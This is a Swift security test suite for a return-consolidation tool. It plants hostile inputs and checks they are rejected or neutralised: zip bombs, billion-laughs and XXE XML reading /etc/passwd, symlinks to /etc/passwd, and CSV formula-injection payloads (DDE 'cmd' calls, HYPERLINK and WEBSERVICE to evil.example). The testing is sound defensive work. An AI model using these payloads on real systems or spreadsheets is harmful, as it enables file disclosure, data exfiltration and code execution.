#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif
import Foundation
import Testing
@testable import Huizong
import HuizongTestSupport

/// A night over an inbox of hostile files (PRODUCT §5–§7, §10): zip bombs, XML entity tricks, huge
/// fields, broken encodings, odd names, links and special files, all in one inbox beside two good
/// returns. The night must finish (no crash, no hang, bounded memory), give every hostile file a
/// clear issue or leave it alone as §7.1 says, take the good returns, keep the outbox contract and
/// archive every processed file byte for byte.
@Suite struct HostileInputTests {
    /// What one processed file of the corpus must come to.
    struct Expected {
        var file: String
        /// The statuses allowed in report.json.
        var statuses: Set<String>
        /// At least one file-level or row issue of one of these codes; empty: none required.
        var codes: Set<String> = []
        /// Text the first issue's message or its detail must hold (Chinese messages).
        var message: String? = nil
    }

    /// The watchdog: a night still running after this many seconds is a hang.
    static let watchdogSeconds = 120
    /// The bound on the peak resident memory of the night, in kilobytes (PRODUCT §14): no field of
    /// the corpus, the 100 MB one included, is held whole more than once on its way to a report.
    static let memoryBoundKB = 256 * 1024

    @Test(.timeLimit(.minutes(5))) func hostileCorpusNightCompletes() throws {
        let ws = try NightWorkspace()
        let outside = try TestSupport.temporaryFolder()
        defer {
            if ProcessInfo.processInfo.environment["HUIZONG_KEEP_HOSTILE"] == nil {
                try? FileManager.default.removeItem(atPath: ws.root)
                try? FileManager.default.removeItem(atPath: outside)
            }
        }
        var expected: [Expected] = []
        /// Entries that §7.1 leaves in place: they must still be there, unread and unreported.
        var leftAlone: [String] = []

        // MARK: The good returns

        try ws.drop("good-1.csv", EnterpriseReturn.csv([EnterpriseReturn.row(0)]))
        try ws.drop("good-2.csv", EnterpriseReturn.csv([EnterpriseReturn.row(1)]))
        expected.append(Expected(file: "good-1.csv", statuses: ["accepted"]))
        expected.append(Expected(file: "good-2.csv", statuses: ["accepted"]))

        // MARK: Workbooks

        let staging = try TestSupport.temporaryFolder()
        defer { try? FileManager.default.removeItem(atPath: staging) }
        let header = Self.inlineRow(1, EnterpriseReturn.labels)
        let noSheet = XLSXReaderTests.entries(XLSXReaderTests.workbookParts(rows: "", replacing: ["xl/worksheets/sheet1.xml": nil]))
        try XLSXReaderTests.zip([
            // 500 MiB of zeros declared honestly: refused by the compression ratio before inflating.
            ws.inbox + "/bomb-ratio.xlsx": noSheet + [["name": "xl/worksheets/sheet1.xml", "zeros": 500 << 20]],
            // The same bomb with headers that claim 1000 bytes: stopped while inflating.
            ws.inbox + "/bomb-lying.xlsx": noSheet + [["name": "xl/worksheets/sheet1.xml", "zeros": 500 << 20, "declare": 1000]],
            // A sheet of 1 GiB, declared honestly: refused by the size limit.
            ws.inbox + "/sheet-1gib.xlsx": noSheet + [["name": "xl/worksheets/sheet1.xml", "zeros": 1 << 30]],
            ws.inbox + "/sst-out-of-range.xlsx": XLSXReaderTests.entries(XLSXReaderTests.workbookParts(
                rows: header + #"<row r="2"><c r="A2" t="s"><v>999</v></c></row>"#, sharedStrings: ["<si><t>东岙</t></si>"])),
            ws.inbox + "/row-99999999.xlsx": XLSXReaderTests.entries(XLSXReaderTests.workbookParts(
                rows: header + Self.inlineRow(99_999_999, EnterpriseReturn.row(1, period: "2009-11")))),
            staging + "/whole.xlsx": XLSXReaderTests.entries(XLSXReaderTests.workbookParts(
                rows: header + Self.inlineRow(2, EnterpriseReturn.row(1, period: "2009-11")))),
        ])
        let whole = try Data(contentsOf: URL(fileURLWithPath: staging + "/whole.xlsx"))
        try ws.drop("truncated.xlsx", whole.prefix(whole.count / 2))
        let junk = Self.pseudoRandomBytes(4096, seed: 7)
        // A compound file's signature over junk: a damaged .xls, whatever its name.
        try ws.drop("compound-junk.xlsx", Data([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1] + junk))
        try ws.drop("pdf.xlsx", Data("%PDF-1.4\n%\u{E2}\u{E3}\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".utf8))
        expected += [
            Expected(file: "bomb-ratio.xlsx", statuses: ["rejected"], codes: ["format-error"], message: "200:1"),
            Expected(file: "bomb-lying.xlsx", statuses: ["rejected"], codes: ["format-error"]),
            Expected(file: "sheet-1gib.xlsx", statuses: ["rejected"], codes: ["format-error"], message: "1 GiB"),
            Expected(file: "sst-out-of-range.xlsx", statuses: ["rejected"], codes: ["format-error"], message: "999"),
            Expected(file: "row-99999999.xlsx", statuses: ["rejected"], codes: ["format-error"], message: "99999999"),
            Expected(file: "truncated.xlsx", statuses: ["rejected"], codes: ["format-error"]),
            Expected(file: "compound-junk.xlsx", statuses: ["rejected"], codes: ["format-error"], message: "损坏"),
            // Text named .xlsx is read as the text it is (PRODUCT §12): its first line is no header.
            Expected(file: "pdf.xlsx", statuses: ["rejected"], codes: ["unknown-return-type"]),
        ]

        // MARK: XML

        let village = "<row>\(OddInputTests.villageRow)</row>"
        try ws.drop("deep.xml", "<return type=\"village\">\n<row>" + String(repeating: "<a>", count: 10_000)
                    + String(repeating: "</a>", count: 10_000) + "</row>\n</return>\n")
        var laughs = "<?xml version=\"1.0\"?>\n<!DOCTYPE return [\n<!ENTITY lol0 \"lol\">\n"
        for level in 1...9 {
            laughs += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
        }
        laughs += "]>\n<return type=\"village\">\n<row><name>&lol9;</name></row>\n</return>\n"
        try ws.drop("billion-laughs.xml", laughs)
        try ws.drop("xxe.xml", """
            <?xml version="1.0"?>
            <!DOCTYPE return [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
            <return type="village">
            <row>\(OddInputTests.villageRow.replacingOccurrences(of: "<legal_adviser>陈律师</legal_adviser>",
                                                                      with: "<legal_adviser>&xxe;</legal_adviser>"))</row>
            </return>

            """)
        try ws.drop("external-dtd.xml", """
            <?xml version="1.0"?>
            <!DOCTYPE return SYSTEM "file:///etc/passwd">
            <return type="village">
            \(village)
            </return>

            """)
        try ws.drop("empty.xml", Data())
        try ws.drop("wrong-root.xml", "<?xml version=\"1.0\"?>\n<report type=\"village\">\n\(village)\n</report>\n")
        expected += [
            Expected(file: "deep.xml", statuses: ["rejected"], codes: ["format-error"]),
            Expected(file: "billion-laughs.xml", statuses: ["rejected"], codes: ["format-error"]),
            Expected(file: "xxe.xml", statuses: ["rejected"], codes: ["format-error"]),
            Expected(file: "external-dtd.xml", statuses: ["rejected"], codes: ["format-error"]),
            // Same bytes as empty.csv, listed after it: a duplicate of it, or rejected on its own.
            Expected(file: "empty.xml", statuses: ["rejected", "duplicate"], codes: ["format-error", "duplicate-file"]),
            Expected(file: "wrong-root.xml", statuses: ["rejected"], codes: ["unknown-return-type"]),
        ]

        // MARK: CSV: size

        let labelsLine = EnterpriseReturn.labels.joined(separator: ",") + "\r\n"
        try Self.writeLarge(ws.inbox + "/big-field.csv", head: labelsLine + "\"", chunk: Data(repeating: UInt8(ascii: "x"), count: 1 << 20),
                            count: 100, tail: "\"," + EnterpriseReturn.row(2, period: "2009-12").dropFirst().joined(separator: ",") + "\r\n")
        try Self.writeLarge(ws.inbox + "/delimiters.csv", head: labelsLine, chunk: Data(repeating: UInt8(ascii: ","), count: 100_000),
                            count: 10, tail: "\r\n")
        try Self.writeLarge(ws.inbox + "/delimiters-after-row.csv", head: labelsLine + Self.csvLine(EnterpriseReturn.row(3, period: "2009-11")),
                            chunk: Data(repeating: UInt8(ascii: ","), count: 100_000), count: 10, tail: "\r\n")
        try Self.writeLarge(ws.inbox + "/delimiters-extra-cell.csv", head: labelsLine + Self.csvLine(EnterpriseReturn.row(4, period: "2009-11")),
                            chunk: Data(repeating: UInt8(ascii: ","), count: 100_000), count: 10, tail: "多余\r\n")
        try Self.writeLarge(ws.inbox + "/blank-lines.csv", head: labelsLine, chunk: Data(String(repeating: "\r\n", count: 1000).utf8),
                            count: 200, tail: Self.csvLine(EnterpriseReturn.row(4, period: "2009-08")) + "\r\n")
        var wide = EnterpriseReturn.labels
        wide += (1...(10_000 - wide.count)).map { "备注\($0)" }
        try ws.drop("wide-header.csv", wide.joined(separator: ",") + "\r\n" + Self.csvLine(EnterpriseReturn.row(2, period: "2009-09")) + "\r\n")
        expected += [
            Expected(file: "big-field.csv", statuses: ["rejected"], codes: ["format-error"], message: "64 MiB"),
            // A line of nothing but delimiters is a blank row: skipped.
            Expected(file: "delimiters.csv", statuses: ["accepted"]),
            // Trailing empty cells are tolerated (spreadsheets pad rows), a million of them too…
            Expected(file: "delimiters-after-row.csv", statuses: ["accepted"]),
            // …but a value after them is an extra cell.
            Expected(file: "delimiters-extra-cell.csv", statuses: ["rejected"], codes: ["extra-cell"]),
            Expected(file: "blank-lines.csv", statuses: ["accepted"]),
            Expected(file: "wide-header.csv", statuses: ["accepted"], codes: ["extra-label"]),
        ]

        // MARK: CSV: bytes and encodings

        var nul = EnterpriseReturn.row(1, period: "2009-07")
        nul[16] = "王\u{0}丽"
        try ws.drop("nul.csv", EnterpriseReturn.csv([nul]))
        var nulRejected = EnterpriseReturn.row(2, period: "2009-11")
        nulRejected[16] = "王\u{0}丽"
        nulRejected[17] = "不是电话"
        try ws.drop("nul-rejected.csv", EnterpriseReturn.csv([nulRejected]))
        let goodBytes = Array(EnterpriseReturn.csv([EnterpriseReturn.row(2, period: "2009-12")]).utf8)
        let cut = goodBytes.count - 30
        try ws.drop("bad-utf8-ff.csv", Data(goodBytes[..<cut] + [0xFF, 0xFE, 0xFF] + goodBytes[cut...]))
        try ws.drop("bad-utf8-gb-valid.csv", Data(goodBytes[..<cut] + [0xC0, 0xB0] + goodBytes[cut...]))
        try ws.drop("bad-utf8-after-bom.csv", Data([0xEF, 0xBB, 0xBF] + goodBytes[..<cut] + [0xC0, 0xB0] + goodBytes[cut...]))
        try ws.drop("bom-disagrees.csv", Data([0xFF, 0xFE] + goodBytes))
        try ws.drop("random.csv", Data(Self.pseudoRandomBytes(65_536, seed: 42)))
        try ws.drop("empty.csv", Data())
        let gbScript = """
            import sys
            labels = sys.argv[2].split(",")
            row = sys.argv[3].split(",")
            text = ",".join(labels) + "\\r\\n" + ",".join(row) + "\\r\\n"
            data = text.encode("gb18030")
            cut = len(data) - 20
            open(sys.argv[1], "wb").write(data[:cut] + b"\\x81\\x7f\\x81" + data[cut:])
            """
        try XLSXReaderTests.python(gbScript, [ws.inbox + "/bad-gb18030.csv", EnterpriseReturn.labels.joined(separator: ","),
                                              EnterpriseReturn.row(3, period: "2009-12").joined(separator: ",")])
        expected += [
            // A NUL is a character like any other: the row is taken (or flagged) and kept whole.
            Expected(file: "nul.csv", statuses: ["accepted", "partial", "rejected"]),
            Expected(file: "nul-rejected.csv", statuses: ["rejected"], codes: ["constraint-error"]),
            Expected(file: "bad-utf8-ff.csv", statuses: ["rejected"], codes: ["encoding-error"]),
            // Not UTF-8 but valid GB18030: read as GB18030 the labels are gibberish.
            Expected(file: "bad-utf8-gb-valid.csv", statuses: ["rejected"], codes: ["encoding-error", "unknown-return-type"]),
            Expected(file: "bad-utf8-after-bom.csv", statuses: ["rejected"], codes: ["encoding-error"]),
            Expected(file: "bom-disagrees.csv", statuses: ["rejected"], codes: ["encoding-error", "unknown-return-type", "format-error"]),
            Expected(file: "random.csv", statuses: ["rejected"], codes: ["encoding-error", "unknown-return-type", "format-error"]),
            Expected(file: "empty.csv", statuses: ["rejected"], codes: ["format-error"]),
            Expected(file: "bad-gb18030.csv", statuses: ["rejected"], codes: ["encoding-error"]),
        ]

        // MARK: CSV: structure and values

        let mixed = Self.csvLine(EnterpriseReturn.labels) + "\r\n" + Self.csvLine(EnterpriseReturn.row(2)) + "\n"
            + Self.csvLine(EnterpriseReturn.row(3)) + "\r" + Self.csvLine(EnterpriseReturn.row(4)) + "\r\n"
        try ws.drop("mixed-line-ends.csv", mixed)
        try ws.drop("unterminated.csv", labelsLine + Self.csvLine(EnterpriseReturn.row(3, period: "2009-11")) + "\r\n\"宁波,0\r\n")
        try ws.drop("header-only.csv", EnterpriseReturn.csv([]))
        var control = EnterpriseReturn.row(0, period: "2009-07")
        control[16] = "王\u{1}丽\u{7}\u{1B}[31m红"
        control[1] = "\u{1B}]0;pwned\u{7}" + control[1]
        try ws.drop("control-chars.csv", EnterpriseReturn.csv([control]))
        let formulas = ["=HYPERLINK(\"http://evil.example/?q=1\",\"点我\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
        var formulaRows = formulas.indices.map { unit in
            var row = EnterpriseReturn.row(unit, period: "2009-10")
            row[16] = formulas[unit]
            return row
        }
        var badFormulaRow = EnterpriseReturn.row(4, period: "2009-10")
        badFormulaRow[16] = "=1+1"
        badFormulaRow[17] = "=WEBSERVICE(\"http://evil.example\")"
        formulaRows.append(badFormulaRow)
        try ws.drop("formula-injection.csv", ([EnterpriseReturn.labels] + formulaRows).map(Self.csvLine).joined(separator: "\r\n") + "\r\n")
        expected += [
            Expected(file: "mixed-line-ends.csv", statuses: ["accepted"]),
            Expected(file: "unterminated.csv", statuses: ["rejected"], codes: ["format-error"]),
            Expected(file: "header-only.csv", statuses: ["accepted"]),
            Expected(file: "control-chars.csv", statuses: ["accepted", "partial", "rejected"]),
            Expected(file: "formula-injection.csv", statuses: ["partial"], codes: ["constraint-error"]),
        ]

        // MARK: Names, folders, links, special files

        var newline = EnterpriseReturn.row(4, period: "2009-08")
        newline[17] = "不是电话"
        try ws.drop("line\nbreak.csv", EnterpriseReturn.csv([EnterpriseReturn.row(3, period: "2009-08"), newline]))
        try ws.drop("sub../a..csv", EnterpriseReturn.csv([EnterpriseReturn.row(0, period: "2009-09")]))
        try ws.drop("报表.csv/inner.csv", EnterpriseReturn.csv([EnterpriseReturn.row(2, period: "2009-08")]))
        try ws.drop("unreadable.csv", EnterpriseReturn.csv([EnterpriseReturn.row(4, period: "2009-07")]))
        try FileManager.default.setAttributes([.posixPermissions: 0], ofItemAtPath: ws.inbox + "/unreadable.csv")
        let asRoot = geteuid() == 0
        expected += [
            Expected(file: "line\nbreak.csv", statuses: ["partial"], codes: ["constraint-error"]),
            Expected(file: "sub../a..csv", statuses: ["accepted"]),
            Expected(file: "报表.csv/inner.csv", statuses: ["accepted"]),
            // Root reads a file of mode 000; anyone else gets a clear issue for it.
            asRoot ? Expected(file: "unreadable.csv", statuses: ["accepted"])
                   : Expected(file: "unreadable.csv", statuses: ["rejected"], codes: ["format-error"]),
        ]
        // Hidden: names starting with "." are never processed nor reported.
        try ws.drop("..x/hidden.csv", EnterpriseReturn.csv([EnterpriseReturn.row(1, period: "2009-12")]))
        try ws.drop("...csv", EnterpriseReturn.csv([EnterpriseReturn.row(1, period: "2009-12")]))
        leftAlone += ["..x/hidden.csv", "...csv"]
        // Links are never followed: not to a secret, not to a folder of returns, not to nothing.
        let outsideMarker = "外部目标不应被读取"
        var outsideRow = EnterpriseReturn.row(1, period: "2009-12")
        outsideRow[16] = outsideMarker
        try TestSupport.write(EnterpriseReturn.csv([outsideRow]), to: outside + "/outside.csv")
        try FileManager.default.createSymbolicLink(atPath: ws.inbox + "/passwd-link.csv", withDestinationPath: "/etc/passwd")
        try FileManager.default.createSymbolicLink(atPath: ws.inbox + "/folder-link", withDestinationPath: outside)
        try FileManager.default.createSymbolicLink(atPath: ws.inbox + "/dangling-link.csv", withDestinationPath: outside + "/gone.csv")
        leftAlone += ["passwd-link.csv", "folder-link", "dangling-link.csv"]
        // A FIFO would block a reader forever.
        #expect(mkfifo(ws.inbox + "/fifo.csv", 0o644) == 0)
        leftAlone.append("fifo.csv")
        // A name that is not UTF-8 (Latin-1 é) cannot be reported: left alone.
        let latin1Name = Array("latin1-".utf8) + [0xE9] + Array(".csv".utf8)
        let latin1Path = Self.cPath(ws.inbox, latin1Name)
        let descriptor = open(latin1Path, O_CREAT | O_WRONLY | O_TRUNC, 0o644)
        #expect(descriptor >= 0)
        let latin1Bytes = Array(EnterpriseReturn.csv([EnterpriseReturn.row(3, period: "2009-12")]).utf8)
        _ = latin1Bytes.withUnsafeBytes { write(descriptor, $0.baseAddress, $0.count) }
        close(descriptor)

        // MARK: The night

        let processed = expected.map(\.file)
        let before = try Self.sha256(of: processed.map { ws.inbox + "/" + $0 })
        let started = Date()
        let night = try BinaryRunner.runProgram("/usr/bin/time", [
            "-f", "%M", "/usr/bin/timeout", "-s", "KILL", String(Self.watchdogSeconds),
            BinaryRunner.executable, "run", "--root", ws.root, "--settle", "0",
        ])
        let seconds = Date().timeIntervalSince(started)
        let peakKB = night.stderr.split(separator: "\n").last.flatMap { Int($0.trimmingCharacters(in: .whitespaces)) }
        print("hostile night: exit \(night.status), \(String(format: "%.1f", seconds)) s, peak RSS \(peakKB.map { "\($0 / 1024) MB" } ?? "?")")
        #expect(seconds < Double(Self.watchdogSeconds), "the night hung and was killed by the watchdog")
        try #require(night.status == 0, "huizong run: exit \(night.status)\n\(night.stdout)\n\(night.stderr.prefix(3000))")
        let peak = try #require(peakKB, "no peak memory from /usr/bin/time: \(night.stderr)")
        #expect(peak < Self.memoryBoundKB, "peak RSS \(peak / 1024) MB")

        // MARK: Per file

        let files = try ws.reportedFiles()
        let issues = try ws.reportedIssues()
        let byName = Dictionary(files.map { ($0["file"] as? String ?? "", $0) }, uniquingKeysWith: { first, _ in first })
        #expect(Set(byName.keys) == Set(processed), "reported \(byName.keys.sorted()) but expected \(processed.sorted())")
        for expectation in expected {
            let name = expectation.file
            guard let entry = byName[name] else { continue }
            let status = entry["status"] as? String ?? "?"
            let mine = issues.filter { $0["file"] as? String == name }
            let codes = mine.compactMap { $0["code"] as? String }
            let first = mine.first?["message"] as? String ?? ""
            let told = first + "\n" + (mine.first?["detail"] as? String ?? "")
            print("case \(name.debugDescription) | \(status) | \(Array(Set(codes)).sorted().joined(separator: " ")) | \(first.prefix(90))")
            #expect(expectation.statuses.contains(status), "\(name): status \(status), issues \(codes)")
            if !expectation.codes.isEmpty {
                #expect(codes.contains(where: expectation.codes.contains), "\(name): codes \(codes), expected one of \(expectation.codes.sorted())")
            }
            if let text = expectation.message {
                #expect(told.contains(text), "\(name): message and detail \(told)")
            }
            for issue in mine {
                let message = issue["message"] as? String ?? ""
                #expect(!message.trimmingCharacters(in: .whitespacesAndNewlines).isEmpty, "\(name): an issue without a message: \(issue)")
            }
            if status == "rejected" || status == "partial" {
                #expect(mine.contains { $0["severity"] as? String == "error" }, "\(name) is \(status) without an error issue")
            }
            // Archived byte for byte, inside the archive, and gone from the inbox.
            let archived = try #require(entry["archivedAs"] as? String, "\(name) not archived")
            #expect(archived.hasPrefix("outbox/archive/") && !archived.split(separator: "/").contains(".."), "\(name): archived as \(archived)")
            let after = try Self.sha256(of: [ws.root + "/" + archived])
            #expect(after.first != nil && after.first == before[processed.firstIndex(of: name)!], "\(name): archived bytes differ")
            #expect(!Self.exists(ws.inbox + "/" + name), "\(name) is still in the inbox")
        }

        // MARK: Left alone

        for entry in leftAlone {
            #expect(Self.exists(ws.inbox + "/" + entry), "\(entry) should have been left in the inbox")
        }
        #expect(Self.exists(latin1Path), "the file with a Latin-1 name should have been left in the inbox")
        for link in ["passwd-link.csv", "folder-link", "dangling-link.csv", "fifo.csv"] {
            #expect(night.stdout.contains(link), "the summary does not name \(link) as left alone")
        }
        #expect(FileManager.default.fileExists(atPath: outside + "/outside.csv"), "the target of a folder link was moved")

        // MARK: The good rows, row numbers, formulas

        let enterprise = try Self.parseCSV(ws.text("outbox/consolidated/enterprise.csv"))
        let sourceFile = EnterpriseReturn.labels.count, sourceRow = sourceFile + 1
        func consolidatedRow(_ unit: Int, _ period: String) -> [String]? {
            enterprise.first { $0.count > sourceRow && $0[0] == EnterpriseReturn.units[unit].code && $0[3] == period }
        }
        #expect(consolidatedRow(0, "2009-06")?[sourceFile] == "good-1.csv")
        #expect(consolidatedRow(1, "2009-06")?[sourceFile] == "good-2.csv")
        for (unit, line) in [(2, "2"), (3, "3"), (4, "4")] {
            let row = consolidatedRow(unit, "2009-06")
            #expect(row?[sourceFile] == "mixed-line-ends.csv" && row?[sourceRow] == line, "mixed line ends, unit \(unit): \(row ?? [])")
        }
        #expect(consolidatedRow(4, "2009-08")?[sourceRow] == "200002", "the row after 200,000 blank lines")
        #expect(consolidatedRow(3, "2009-08")?[sourceFile] == "line\nbreak.csv")
        for (unit, formula) in formulas.enumerated() {
            #expect(consolidatedRow(unit, "2009-10")?[16] == "'" + formula, "formula of unit \(unit)")
        }
        #expect(!enterprise.flatMap { $0 }.contains(outsideMarker))
        #expect((byName["delimiters.csv"]?["rows"] as? [String: Any])?["read"] as? Int == 0)
        #expect(consolidatedRow(3, "2009-11")?[sourceFile] == "delimiters-after-row.csv")
        // A NUL inside a cell: the row is kept whole, in the consolidated table or in the error report.
        for (name, unit, period) in [("nul.csv", 1, "2009-07"), ("nul-rejected.csv", 2, "2009-11")] {
            let original = name == "nul.csv" ? nul : nulRejected
            if byName[name]?["status"] as? String == "accepted" {
                #expect(consolidatedRow(unit, period)?[16] == original[16], "\(name): the accepted row lost its cells")
            } else if let report = byName[name]?["errorReport"] as? String {
                let rows = try Self.parseCSV(ws.text(report)).dropFirst()
                #expect(rows.map { Array($0.prefix(original.count)) } == [original], "\(name): the error report lost the row's cells: \(Array(rows))")
            } else {
                Issue.record("\(name): neither taken nor in an error report")
            }
        }
        var outputs = ["outbox/consolidated/enterprise.csv", "outbox/consolidated/village.csv"]
        outputs += files.compactMap { $0["errorReport"] as? String }.filter { $0.hasSuffix(".csv") }
        for output in outputs {
            for cell in try Self.parseCSV(ws.text(output)).flatMap({ $0 }) {
                let risky = cell.first.map { "=+@\t\r".contains($0) || ($0 == "-" && Double(cell) == nil) } ?? false
                #expect(!risky, "\(output): a cell a spreadsheet would run: \(cell.prefix(40).debugDescription)")
            }
        }
        let formulaReport = try #require(byName["formula-injection.csv"]?["errorReport"] as? String)
        let rejectedRows = try Self.parseCSV(ws.text(formulaReport)).dropFirst()
        var guarded = badFormulaRow
        guarded[16] = "'" + guarded[16]
        guarded[17] = "'" + guarded[17]
        #expect(rejectedRows.map { Array($0.prefix(guarded.count)) } == [guarded], "the rejected formula row as given, guarded")

        // MARK: Nothing leaked, every output readable, the contract

        let passwd = (try? String(contentsOfFile: "/etc/passwd", encoding: .utf8))?.split(separator: "\n").first.map(String.init) ?? "root:x:0:0"
        let scan = try Self.scanOutbox(ws.outbox, forbidden: [passwd, "root:x:0:0", outsideMarker])
        #expect(scan.isEmpty, "\(scan)")
        #expect(try ws.contract() == NightWorkspace.contractHolds)

        // MARK: The next night is quiet

        let next = try BinaryRunner.runProgram("/usr/bin/timeout", ["-s", "KILL", String(Self.watchdogSeconds),
                                                                   BinaryRunner.executable, "run", "--root", ws.root, "--settle", "0"])
        #expect(next.status == 0, "second night: \(next.stderr)")
        #expect(try ws.reportedFiles().isEmpty)
        #expect(try ws.contract() == NightWorkspace.contractHolds)
    }

    // MARK: - Helpers

    /// A CSV record with RFC 4180 quoting.
    static func csvLine(_ cells: [String]) -> String {
        cells.map { cell in
            cell.contains(where: { ",\"\r\n".contains($0) }) ? "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : cell
        }.joined(separator: ",")
    }

    /// RFC 4180 records of a CSV output (BOM removed), by Unicode scalars so that CRLF is two.
    static func parseCSV(_ text: String) -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field = String.UnicodeScalarView()
        var quoted = false, afterQuote = false, any = false
        var scalars = text.unicodeScalars[...]
        if scalars.first == "\u{FEFF}" { scalars = scalars.dropFirst() }
        var iterator = scalars.makeIterator()
        var pending: Unicode.Scalar? = nil
        func endField() { record.append(String(field)); field = .init() }
        while let scalar = pending ?? iterator.next() {
            pending = nil
            any = true
            if quoted {
                if scalar == "\"" {
                    if let next = iterator.next() {
                        if next == "\"" { field.append("\"") } else { quoted = false; afterQuote = true; pending = next }
                    } else { quoted = false }
                } else { field.append(scalar) }
                continue
            }
            switch scalar {
            case "\"" where field.isEmpty && !afterQuote: quoted = true
            case ",": endField(); afterQuote = false
            case "\r", "\n":
                if scalar == "\r", let next = iterator.next(), next != "\n" { pending = next }
                endField(); records.append(record); record = []; afterQuote = false; any = false
            default: field.append(scalar)
            }
        }
        if any { endField(); records.append(record) }
        return records
    }

    /// `<row r="n">` of inline strings.
    static func inlineRow(_ number: Int, _ cells: [String]) -> String {
        "<row r=\"\(number)\">" + cells.map { "<c t=\"inlineStr\"><is><t>\(Self.xmlEscaped($0))</t></is></c>" }.joined() + "</row>"
    }

    static func xmlEscaped(_ text: String) -> String {
        text.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;").replacingOccurrences(of: ">", with: "&gt;")
    }

    static func pseudoRandomBytes(_ count: Int, seed: UInt64) -> [UInt8] {
        var state = seed
        return (0..<count).map { _ in
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return UInt8(truncatingIfNeeded: state >> 33)
        }
    }

    /// Writes `head`, `count` copies of `chunk`, then `tail`, without holding the file in memory.
    static func writeLarge(_ path: String, head: String, chunk: Data, count: Int, tail: String) throws {
        _ = FileManager.default.createFile(atPath: path, contents: nil)
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: path))
        defer { try? handle.close() }
        try handle.write(contentsOf: Data(head.utf8))
        for _ in 0..<count { try handle.write(contentsOf: chunk) }
        try handle.write(contentsOf: Data(tail.utf8))
    }

    /// A NUL-terminated path of a folder and a raw (possibly non-UTF-8) name.
    static func cPath(_ folder: String, _ name: [UInt8]) -> [CChar] {
        (Array(folder.utf8) + [UInt8(ascii: "/")] + name + [0]).map { CChar(bitPattern: $0) }
    }

    /// True when there is an entry at `path`, a link included (not followed).
    static func exists(_ path: String) -> Bool {
        var info = stat()
        return lstat(path, &info) == 0
    }

    static func exists(_ path: [CChar]) -> Bool {
        var info = stat()
        return lstat(path, &info) == 0
    }

    /// SHA-256 of each file (by Python's hashlib, independent of huizong's), "" when unreadable.
    static func sha256(of paths: [String]) throws -> [String] {
        let spec = try TestSupport.temporaryFolder() + "/paths.json"
        try JSONSerialization.data(withJSONObject: paths).write(to: URL(fileURLWithPath: spec))
        let result = try BinaryRunner.runProgram("/usr/bin/env", ["python3", "-c", """
            import hashlib, json, sys
            out = []
            for p in json.load(open(sys.argv[1], encoding="utf-8")):
                h = hashlib.sha256()
                try:
                    with open(p, "rb") as f:
                        for block in iter(lambda: f.read(1 << 20), b""): h.update(block)
                    out.append(h.hexdigest())
                except OSError:
                    out.append("")
            print(json.dumps(out))
            """, spec])
        try #require(result.status == 0, "\(result.stderr)")
        return try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String] ?? []
    }

    /// Every output of the outbox (the archive aside), and every part of every workbook in it: the
    /// forbidden texts must appear nowhere, and every XML part must be well-formed. One line per problem.
    static func scanOutbox(_ outbox: String, forbidden: [String]) throws -> [String] {
        let result = try BinaryRunner.runProgram("/usr/bin/env", ["python3", "-c", """
            import io, os, sys, zipfile
            import xml.etree.ElementTree as ET
            outbox, needles = sys.argv[1], [n.encode() for n in sys.argv[2:]]
            for folder, dirs, names in os.walk(outbox):
                if os.path.relpath(folder, outbox).split(os.sep)[0] == "archive":
                    continue
                for name in names:
                    path = os.path.join(folder, name)
                    data = open(path, "rb").read()
                    for n in needles:
                        if n in data: print("LEAK", repr(n), "in", path)
                    if name.endswith(".xlsx"):
                        try:
                            z = zipfile.ZipFile(io.BytesIO(data))
                        except Exception as e:
                            print("BAD ZIP", path, e); continue
                        for info in z.infolist():
                            part = z.read(info)
                            for n in needles:
                                if n in part: print("LEAK", repr(n), "in", path, info.filename)
                            if info.filename.endswith((".xml", ".rels")):
                                try: ET.fromstring(part)
                                except Exception as e: print("BAD XML", path, info.filename, e)
            """, outbox] + forbidden)
        try #require(result.status == 0, "\(result.stderr)")
        return result.stdout.split(separator: "\n").map(String.init)
    }
}
